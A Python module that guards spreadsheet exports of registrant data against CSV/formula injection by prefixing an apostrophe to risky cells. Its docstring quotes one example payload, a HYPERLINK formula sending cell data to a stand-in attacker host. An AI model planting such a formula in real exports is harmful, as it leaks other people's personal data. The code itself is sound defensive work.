"""Exports that staff open in Excel or LibreOffice: whatever a visitor typed arrives as text, never as a formula.

A cell starting with = + - @, a tab or a carriage return is run as a formula by spreadsheets (OWASP "CSV
injection"): a registrant named =HYPERLINK("http://evil.example/?d="&E4,"…") would send other registrants' data
away when a coordinator opens the file. Such text gets a leading apostrophe, in the CSV and in the XLSX, and XLSX
cells holding text are written as text.
"""

import csv
import io

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutral_cell(value):
    """The value as it may go into a spreadsheet cell: text that would start a formula gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutral_row(values):
    return [neutral_cell(value) for value in values]


def csv_text(rows):
    """Semicolon-separated with a BOM (what a Russian-locale spreadsheet opens correctly), every cell neutral."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer, delimiter=";")
    writer.writerows(neutral_row(row) for row in rows)
    return buffer.getvalue()


def append_text_row(sheet, values):
    """Appends a row to an openpyxl sheet with every cell neutral and text cells typed as text."""
    sheet.append(neutral_row(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
